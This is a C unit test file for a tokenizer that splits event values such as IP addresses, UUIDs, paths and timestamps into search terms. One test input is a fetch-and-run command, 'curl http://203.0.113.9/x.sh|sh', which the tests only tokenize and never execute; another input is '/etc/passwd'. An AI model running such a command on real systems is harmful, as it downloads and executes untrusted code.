#include "schema/event/term.h"
#include "tests/support/test.h"

static int add_term(void *context, struct span term, enum term_level level, uint32_t first_word,
                    uint32_t last_word)
{
    (void)level;
    EXPECT(first_word <= last_word);
    struct buf *out = context;
    buf_printf(out, "%s%.*s", out->size ? " " : "", SPAN_FMT(term));
    return 0;
}

TEST(terms_of_values)
{
    static const struct {
        const char *value;
        const char *terms;
        const char *words;
    } cases[] = {
        {"root", "root", "root"},
        {"Hello, World!", "hello world", "hello world"},
        {"session.start", "session start session.start", "session start"},
        {"alice@example.com", "alice example com example.com alice@example.com",
         "alice example com"},
        {"203.0.113.7:22", "203.0.113.7 22 203.0.113.7:22", "203.0.113.7 22"},
        {"16BFDC34-2766-4a5d-93df-d6f7ff7ad6aa",
         "16bfdc34 2766 4a5d 93df d6f7ff7ad6aa 16bfdc34-2766-4a5d-93df-d6f7ff7ad6aa",
         "16bfdc34 2766 4a5d 93df d6f7ff7ad6aa"},
        {"/etc/passwd", "etc passwd etc/passwd", "etc passwd"},
        {"C:\\Users\\Bob", "c users bob c:\\users\\bob", "c users bob"},
        {"2001:db8::1", "2001:0db8:0000:0000:0000:0000:0000:0001",
         "2001:0db8:0000:0000:0000:0000:0000:0001"},
        {"[2001:DB8::1]:443", "2001:0db8:0000:0000:0000:0000:0000:0001 443",
         "2001:0db8:0000:0000:0000:0000:0000:0001 443"},
        {"::ffff:10.0.0.1", "10.0.0.1", "10.0.0.1"},
        {"fe80::1%eth0", "fe80:0000:0000:0000:0000:0000:0000:0001",
         "fe80:0000:0000:0000:0000:0000:0000:0001"},
        {"2020-06-05T16:24:05Z", "2020-06-05t16:24:05z", "2020-06-05t16:24:05z"},
        {"curl http://203.0.113.9/x.sh|sh",
         "curl http 203.0.113.9 x sh x.sh http://203.0.113.9/x.sh sh",
         "curl http 203.0.113.9 x sh sh"},
        {"ip-10-0-0-1", "ip 10 0 0 1 ip-10-0-0-1", "ip 10 0 0 1"},
        {"999.1.1.1", "999 1 1 1 999.1.1.1", "999 1 1 1"},
        {"db_user", "db_user", "db_user"},
        {"\xc3\x84rger", "\xc3\xa4rger", "\xc3\xa4rger"},
        {" -- .. ", "", ""},
        {"", "", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct buf terms = BUF_INIT;
        (void)term_split(span_str(cases[i].value), add_term, &terms);
        EXPECT_SPAN(buf_span(&terms), cases[i].terms);
        struct buf words = BUF_INIT;
        (void)term_words(span_str(cases[i].value), &words);
        for (size_t at = 0; at < words.size; at++) {
            words.data[at] = words.data[at] ? words.data[at] : ' ';
        }
        EXPECT_SPAN(span_of(words.data, words.size ? words.size - 1 : 0), cases[i].words);
        buf_fini(&words);
        buf_fini(&terms);
    }
}

TEST(one_term_or_a_phrase)
{
    struct buf out = BUF_INIT;
    EXPECT(term_single(span_str("Session.Start"), &out));
    EXPECT_SPAN(buf_span(&out), "session.start");
    EXPECT(!term_single(span_str("two words"), &out));
    EXPECT(!term_single(span_str("--"), &out));
    EXPECT_SPAN(buf_span(&out), "session.start");
    buf_fini(&out);
}

/* What is whole by itself is cut where it is a part; an IPv4 address and a UUID stay whole. */
TEST(words_of_a_part)
{
    static const struct {
        const char *term;
        const char *words;
        bool is_word;
        size_t last_atom;
    } cases[] = {
        {"root", "root", true, 0},
        {"2001:db8::5", "2001 db8 5", false, 10},
        {"2001:0db8:0000:0000:0000:0000:0000:0005", "2001 0db8 0000 0000 0000 0000 0000 0005", true,
         35},
        {"2026-11-02t10:00:00z", "2026 11 02t10 00 00z", true, 17},
        {"203.0.113.7", "203.0.113.7", true, 0},
        {"203.0.113.7:22", "203.0.113.7 22", false, 12},
        {"a/.b", "a b", false, 3},
        {"a/-", "a", false, 3},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct buf words = BUF_INIT;
        struct span term = span_str(cases[i].term);
        (void)term_cut_words(term, &words);
        for (size_t at = 0; at < words.size; at++) {
            words.data[at] = words.data[at] ? words.data[at] : ' ';
        }
        EXPECT_SPAN(span_of(words.data, words.size - 1), cases[i].words);
        EXPECT_INT(term_is_word(term), cases[i].is_word);
        EXPECT_INT(term_last_atom(term), cases[i].last_atom);
        buf_fini(&words);
    }
}

TEST(long_terms_are_cut)
{
    char value[1000];
    memset(value, 'x', sizeof value);
    struct buf out = BUF_INIT;
    EXPECT(term_single(span_of(value, sizeof value), &out));
    EXPECT_INT(out.size, TERM_BYTES_MAX);
    buf_fini(&out);
}

TEST(addresses)
{
    struct buf out = BUF_INIT;
    EXPECT(term_address(span_str("10.0.0.1"), &out));
    EXPECT(!term_address(span_str("10.0.0.256"), &out));
    EXPECT(!term_address(span_str("10.0.0.01"), &out));
    EXPECT(!term_address(span_str("example.com"), &out));
    EXPECT(!term_address(span_str("00:11:22:33:44:55"), &out));
    EXPECT_SPAN(buf_span(&out), "10.0.0.1");
    buf_fini(&out);
}

TEST_MAIN(TEST_ENTRY(terms_of_values), TEST_ENTRY(one_term_or_a_phrase),
          TEST_ENTRY(words_of_a_part), TEST_ENTRY(long_terms_are_cut), TEST_ENTRY(addresses))
